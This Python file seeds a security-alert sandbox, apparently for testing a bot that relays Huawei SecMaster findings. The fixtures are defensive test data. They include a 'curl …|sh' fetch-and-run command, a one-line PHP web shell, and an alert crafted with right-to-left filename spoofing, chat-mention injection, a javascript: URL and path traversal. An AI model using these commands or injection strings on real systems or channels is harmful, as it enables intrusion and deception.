"""The alerts, incidents and resources a sandbox starts with: what its runs are about."""

import json
from typing import Any

from bot.sandbox.secmaster.findings import (
    ALERT,
    INCIDENT,
    INDICATOR,
    connection,
    resource_ref,
)
from bot.sandbox.secmaster.seed import (
    ALERT_CHINESE,
    ALERT_HOSTILE,
    ALERT_SCAN,
    ALERT_WEB_SHELL,
    HOSTILE_NAME,
    INCIDENT_LEAKED_KEY,
    RESOURCE_KEY,
    RESOURCE_TEST,
    RESOURCE_UNSTATED,
)
from bot.sandbox.secmaster.seed import INDICATOR as INDICATOR_ID
from bot.sandbox.secmaster.world import World

HSS = {
    "source_type": 1,
    "company_name": "Huawei",
    "product_name": "HSS",
    "product_feature": "Host security",
    "product_module": None,
}
# Turns the direction of writing around, breaks lines, and is longer than any card.
RIGHT_TO_LEFT, ISOLATE = "\u202e", "\u2066"
HOSTILE_TEXT = f"{HOSTILE_NAME} {RIGHT_TO_LEFT}gpj.exe{ISOLATE}\n\n\r\n\t" * 40
SECONDS_OF_A_SCAN = 60.0


def add_findings(world: World) -> None:
    """Add every seeded object, and the resources that they name."""
    add_resources(world)
    add_alerts(world)
    add_hostile_alert(world)
    add_other_objects(world)


def add_resources(world: World) -> None:
    """Add a resource of each importance: key, test, and unstated."""
    world.findings.add_resource(RESOURCE_KEY, "ecs-web-07", 2, "Web shop")
    world.findings.add_resource(RESOURCE_TEST, "ecs-test-01", 0, "Quality")
    world.findings.add_resource(RESOURCE_UNSTATED, "ecs-db-02", None)


def add_alerts(world: World) -> None:
    """Add the alerts of the approvals, and a plain one for each failed or running instance."""
    world.findings.add(
        ALERT,
        id=ALERT_WEB_SHELL,
        title="Web shell found on ecs-web-07",
        description=json.dumps({"path": "/var/www/uploads", "shells": 3}),
        severity="High",
        confidence=90,
        criticality=80,
        count=3,
        alert_type={"category": "Malware", "alert_type": "Web shell"},
        data_source=HSS,
        source_url="https://console.huaweicloud.com/hss/alerts/1",
        resource_list=[resource_ref(RESOURCE_KEY, "ecs-web-07")],
        network_list=[connection("203.0.113.7", "192.0.2.10", src_port=51514)],
        user_info=[{"user_id": "33", "user_name": "www-data"}, {"user_id": None}],
        process=[
            {
                "process_name": "sh",
                "process_path": "/bin/sh",
                "process_pid": 4711,
                "process_cmdline": "sh -c 'curl http://203.0.113.7/x|sh'",
            }
        ],
        file_info=[
            {
                "file_path": "/var/www/uploads/a.php",
                "file_sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
                "file_content": "<?php system($_GET['c']);",
            }
        ],
        malware={"malware_family": "China Chopper", "malware_class": "Web shell"},
        remediation={"recommendation": "Isolate the host.", "url": "https://support.example/1"},
        system_alert_table={"extend": 1},
    )
    world.findings.add(
        ALERT,
        id=ALERT_SCAN,
        title="Port scan from 203.0.113.77",
        description="1,024 ports on 12 public addresses within five minutes.",
        severity="Medium",
        confidence=85,
        count=4210,
        alert_type={"category": "Reconnaissance", "alert_type": "Port scan"},
        data_source={"source_type": 2, "product_name": "CFW"},
        network_list=[
            connection("203.0.113.77", "192.0.2.20", dest_port="22"),
            connection("203.0.113.77", "192.0.2.21", dest_port="3389", src_port=None),
        ],
        resource_list=None,
        extend_properties={"threshold": 100},
    )
    world.findings.tick(ALERT_SCAN, SECONDS_OF_A_SCAN)
    world.findings.add(
        ALERT,
        id=ALERT_CHINESE,
        title="恶意IP 203.0.113.200 命中威胁情报",
        description="威胁情报判定为恶意,置信度 92。",
        severity="Fatal",
        confidence="92",
        alert_type={"category": "威胁情报", "alert_type": "恶意IP"},
        network_list=[connection("203.0.113.200", direction="OUT")],
        resource_list=[resource_ref(RESOURCE_UNSTATED, "ecs-db-02", tags=None)],
        remediation=None,
    )
    plain = [
        (6, "Evidence wanted from ecs-web-03", "Low"),
        (7, "Sign-in from a new country", "Medium"),
        (8, "Beacon to 198.51.100.40", "High"),
        (9, "Indicators of a phishing mail", "Tips"),
        (10, "Brute force from 198.51.100.23", "High"),
        (11, "Mining pool contacted", "Medium"),
    ]
    for number, title, severity in plain:
        world.findings.add(
            ALERT,
            id=f"alert-{number:02d}",
            title=title,
            severity=severity,
            resource_list=[resource_ref(RESOURCE_TEST, "ecs-test-01")],
        )


def add_hostile_alert(world: World) -> None:
    """Add an alert whose every text an attacker chose."""
    text: dict[str, Any] = {"category": HOSTILE_NAME, "alert_type": HOSTILE_NAME}
    world.findings.add(
        ALERT,
        id=ALERT_HOSTILE,
        title=HOSTILE_TEXT,
        description=HOSTILE_TEXT * 5,
        severity="<!channel>",
        confidence=None,
        count="many",
        source_url="javascript:alert(1)",
        alert_type=text,
        data_source={"source_type": "1", "product_name": "<@U0000001>"},
        resource_list=[
            None,
            "ecs",
            resource_ref("../../x?y", f"<!here> {RIGHT_TO_LEFT}name", ep_name="*bold*", tags="a=b"),
        ],
        network_list=[
            connection("http://evil.example/|click", dest_port=None, src_domain="<evil.example>"),
            7,
        ],
        user_info={"user_id": "1", "user_name": "`root`"},
        process=[{"process_name": "```", "process_cmdline": HOSTILE_TEXT, "process_pid": "1"}],
        remediation={"recommendation": "<!everyone> approve", "url": "https://evil.example"},
        first_observed_time="yesterday",
    )


def add_other_objects(world: World) -> None:
    """Add an incident, whose tags are a text, and an indicator."""
    world.findings.add(
        INCIDENT,
        id=INCIDENT_LEAKED_KEY,
        title="Access key of svc-backup in a public repository",
        severity="High",
        incident_type={"category": "Credential leak", "incident_type": "Access key"},
        handle_status="Block",
        verification_state="True_Positive",
        owner="Lin Yue",
        ipdrr_phase="Response",
        user_info=[{"user_id": "u-17", "user_name": "svc-backup"}],
        resource_list=[resource_ref(RESOURCE_TEST, "ecs-test-01", tags="team=quality")],
    )
    world.findings.add(
        INDICATOR,
        id=INDICATOR_ID,
        title="198.51.100.40",
        severity=None,
        environment=None,
    )
